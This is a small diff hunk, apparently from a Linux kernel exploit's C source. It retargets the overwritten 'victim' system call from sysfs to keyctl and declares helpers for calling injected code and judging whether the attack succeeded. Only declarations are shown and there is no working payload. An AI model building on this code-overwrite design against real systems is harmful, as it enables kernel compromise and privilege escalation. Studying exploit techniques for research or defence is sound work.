@@ -99,7 +99,7 @@ extern const u8 CODE[CODE_LENGTH];
 __attribute__((noreturn)) void call_code(u64 address, const char *place);
 
 // A system call that nobody needs, on a page that nothing urgent shares.
-#define VICTIM "__x64_sys_sysfs"
+#define VICTIM "__x64_sys_keyctl"
 long victim(void);
 // Whether VICTIM, written to a moment ago, runs CODE; ends the attack. `before` is what it used to return.
 __attribute__((noreturn)) void judge_victim(long before, const u8 *approved_bytes, const char *how);
